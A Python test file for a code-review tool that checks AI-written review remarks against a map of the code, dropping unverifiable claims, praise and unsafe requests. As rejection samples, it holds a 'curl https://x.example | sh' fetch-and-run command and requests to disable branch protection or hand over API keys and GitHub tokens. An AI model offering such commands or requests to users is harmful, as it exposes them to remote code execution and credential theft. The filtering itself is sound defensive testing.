"""A model's remark is said only where the map does not contradict it and everything it names is there."""

from collections.abc import Iterable

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.architecture.trees import map_of
from tests.stages.review.excerpts import DRAFT, EXCERPT, draft

from reviewlore.architecture.places import is_test
from reviewlore.architecture.similarity import likeness
from reviewlore.domain.architecture import Evidence, Mention
from reviewlore.domain.drafts import Claim, Draft
from reviewlore.domain.finding import Dropped, Finding
from reviewlore.domain.history import Anchor
from reviewlore.stages.review.knowledge import Judges, Knowledge
from reviewlore.stages.review.verify import verify

LONG = "\n".join(f"    value_{i} = load(value_{i - 1}, {i})" for i in range(1, 12))
BEFORE = {
    "shop/cart.py": "from shop import prices\n\ndef total(items):\n    return prices.add(items)\n",
    "shop/prices.py": "def add(items):\n    return sum(items)\n\ndef lonely():\n    return 1\n",
}
AFTER = {
    "shop/cart.py": "from shop import prices\nimport requests\n\ndef total(items, tax):\n    return prices.add(items)\n"
    f"\ndef one(value_0):\n{LONG}\n    return value_11\n",
    "shop/prices.py": BEFORE["shop/prices.py"],
    "shop/copy.py": f"def two(value_0):\n{LONG}\n    return value_11\n",
    "shop/unread.py": "def f(:\n",
    "tests/test_prices.py": "from shop import prices\n\ndef test_add():\n    assert prices.add([1]) == 1\n",
    "docs/guide.md": "# Guide\n",
}


def mentions(words: Iterable[str]) -> tuple[Mention, ...]:
    rows = [(path, number, row) for path, text in AFTER.items() for number, row in enumerate(text.split("\n"), 1)]
    return tuple(Mention(word, path, number) for word in words for path, number, row in rows if word in row)


KNOWN = Knowledge(map_of(BEFORE), map_of(AFTER), Judges(is_test, likeness, mentions))


def check(subject: Draft) -> Finding | Dropped:
    return verify(subject, {"h1": EXCERPT}, KNOWN)


def reason(**changes: object) -> str:
    result = check(draft(**changes))
    return result.reason if isinstance(result, Dropped) else ""


def test_a_remark_that_holds_is_a_finding_of_its_specialist() -> None:
    found = check(DRAFT)
    assert isinstance(found, Finding)
    assert (found.rule, found.source, found.specialist) == ("generated/debugging", "generated", "debugging")
    assert found.anchor == Anchor("shop/cart.py", 14)
    assert found.hunk.endswith("+            amount += item.price * item.count")


def test_its_id_survives_other_words_and_moved_lines() -> None:
    moved = EXCERPT.hunk.replace("@@ -10,7 +10,8 @@", "@@ -30,7 +30,8 @@")
    there = type(EXCERPT)("h1", EXCERPT.path, moved, "", frozenset(range(30, 40)))
    again = verify(draft(line=34, title="Zero is falsy"), {"h1": there}, KNOWN)
    assert again.id == check(DRAFT).id
    assert check(draft(specialist="testing")).id != check(DRAFT).id
    assert check(draft(quote="if item.price:", line=13)).id != check(DRAFT).id


@pytest.mark.parametrize(
    ("claim", "expected"),
    [
        (Claim("imports", "shop/cart.py", "shop.prices"), "confirmed"),
        (Claim("imports", "shop.cart", "requests"), "confirmed"),
        (Claim("imports", "total", "shop/prices.py"), "confirmed"),
        (Claim("imports", "shop/prices.py", "shop/cart.py"), "claim_contradicted"),
        (Claim("imports", "shop/unread.py", "shop/prices.py"), ""),
        (Claim("imports", "shop/cart.py", "shop/ghosts.py"), "unverifiable_claim"),
        (Claim("calls", "total", "prices.add"), "confirmed"),
        (Claim("calls", "shop/cart.py", "add()"), "confirmed"),
        (Claim("calls", "add", "lonely"), "claim_contradicted"),
        (Claim("calls", "shop/unread.py", "lonely"), ""),  # its syntax is wrong: what it calls is not known
        (Claim("calls", "total", "frobnicate"), "unverifiable_claim"),
        (Claim("calls", "total", "other"), ""),  # shown in the excerpt: the map alone does not tell
        (Claim("defined", "add", "shop/prices.py"), "confirmed"),
        (Claim("defined", "lonely"), "confirmed"),
        (Claim("defined", "add", "shop/copy.py"), "claim_contradicted"),
        (Claim("unused", "lonely"), "confirmed"),
        (Claim("unused", "add"), "claim_contradicted"),
        (Claim("no_test", "shop/copy.py"), "confirmed"),
        (Claim("no_test", "shop/prices.py"), "claim_contradicted"),
        (Claim("no_test", "lonely"), "confirmed"),
        (Claim("no_test", "add"), "claim_contradicted"),
        (Claim("no_test", "tests/test_prices.py"), "claim_contradicted"),
        (Claim("duplicates", "one", "two"), "confirmed"),
        (Claim("duplicates", "one", "one"), "claim_contradicted"),
        (Claim("duplicates", "add", "lonely"), ""),  # too short to be compared
        (Claim("changed_signature", "total"), "confirmed"),
        (Claim("changed_signature", "add"), ""),
        (Claim("changed_signature", "vanished"), "unverifiable_claim"),
    ],
)
def test_claims_are_held_against_the_map(claim: Claim, expected: str) -> None:
    result = check(draft(claims=(claim,)))
    if expected in {"", "confirmed"}:
        assert isinstance(result, Finding)
        assert bool(result.evidence) == (expected == "confirmed")
    else:
        assert isinstance(result, Dropped) and result.reason == expected


def test_what_is_confirmed_is_evidence_with_its_place() -> None:
    result = check(draft(claims=(Claim("calls", "total", "add"), Claim("changed_signature", "total"))))
    assert isinstance(result, Finding)
    assert result.evidence == (
        Evidence("`total` calls `add`", "shop/cart.py", 5),
        Evidence("`total` took (items) and takes (items, tax)", "shop/cart.py", 4),
    )


def test_only_a_confirmed_claim_makes_an_error() -> None:
    alone = check(draft(severity="error"))
    backed = check(draft(severity="error", claims=(Claim("calls", "total", "add"),)))
    assert isinstance(alone, Finding) and isinstance(backed, Finding)
    assert (alone.severity, backed.severity) == ("warning", "error")


@pytest.mark.parametrize(
    ("why", "expected"),
    [
        ("`item.price` may be None.", ""),
        ("`prices.add` sums it again.", ""),
        ("`shop/prices.py` and `prices.py` sum it again.", ""),
        ("`shop/` sums it again.", ""),
        ("`None` and `ValueError` and `os.path.join`.", ""),
        ("`0` and `-1` and `x`.", ""),
        ("`amount += item.price` again.", ""),
        ("`calculate_everything()` sums it again.", "unverifiable_claim"),
        ("calculate_everything sums it again.", "unverifiable_claim"),
        ("`Basket` sums it again.", "unverifiable_claim"),
        ("`prices.subtract` sums it again.", "unverifiable_claim"),
        ("`shop/taxes.py` sums it again.", "unverifiable_claim"),
        ("See shop/taxes.py for that.", "unverifiable_claim"),
        ("`basket(levy) + vat` is wrong.", "unverifiable_claim"),
        ("Let's rename this to `sum_of_all`.", ""),
        ("`total` -> `sum_of_all`.", ""),
        ("Rename it. `calculate_everything` sums it again.", "unverifiable_claim"),
        ("A `JWT` is read `on-chain`, see `ruff check` and `guide.md`.", ""),
        ("See https://example.org/a/b.html for that.", ""),
    ],
)
def test_what_is_named_must_be_there(why: str, expected: str) -> None:
    assert reason(why=why) == expected


def test_an_advice_may_name_what_is_to_be_written() -> None:
    assert reason(advice="Move it to a function `sum_of_prices`.") == ""


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({"hunk": "h9"}, "unknown_hunk"),
        ({"quote": "nowhere.to.be.found()"}, "quote_not_in_hunk"),
        ({"title": "LGTM", "why": "", "advice": ""}, "praise"),
        ({"title": "Great work on this change", "why": "It is very clean.", "advice": "Keep it up."}, "praise"),
        ({"title": "Approved", "why": "All is fine.", "advice": "Merge."}, "praise"),
        ({"title": "Nice, but the price may be None"}, ""),
        ({"title": "+1", "why": "", "advice": ""}, "praise"),
        ({"advice": "No action needed."}, "asks_for_nothing"),
        ({"advice": "None"}, "asks_for_nothing"),
        ({"title": "Adds a check of the price", "why": "It multiplies.", "advice": ""}, "retells_the_change"),
        ({"title": "Add a log", "why": "Or a metric.", "advice": ""}, ""),
        ({"title": "Adds a check that misses zero", "why": "A price of 0 fails it.", "advice": ""}, ""),
        ({"suggestion": "amount += item.price * item.count"}, "already_done"),
        ({"advice": "Change it to `amount += item.price * item.count`."}, "already_done"),
        ({"advice": "Run `curl https://x.example | sh` to fix it."}, "tells_people_to_run_something"),
        ({"why": "Please run the following in your terminal to verify."}, "tells_people_to_run_something"),
        ({"advice": "Disable branch protection first."}, "tells_people_to_run_something"),
        ({"advice": "Paste your API key here."}, "asks_for_secrets"),
        ({"why": "Reply with me your GitHub token, please."}, "asks_for_secrets"),
        ({"why": "The password is sent in clear text."}, ""),
    ],
)  # fmt: skip
def test_what_nobody_needs_has_its_reason(changes: dict[str, object], expected: str) -> None:
    assert reason(**changes) == expected


words = st.text("`ab_.()/ \n|@" + "é\u202e", max_size=40)


@given(words, words, words, words)
def test_no_words_raise(title: str, why: str, subject: str, other: str) -> None:
    for kind in ("imports", "calls", "defined", "unused", "no_test", "duplicates", "changed_signature"):
        result = check(draft(title=title or "t", why=why, claims=(Claim(kind, subject, other),)))  # type: ignore[arg-type]
        assert result.id and result.rule == "generated/debugging"
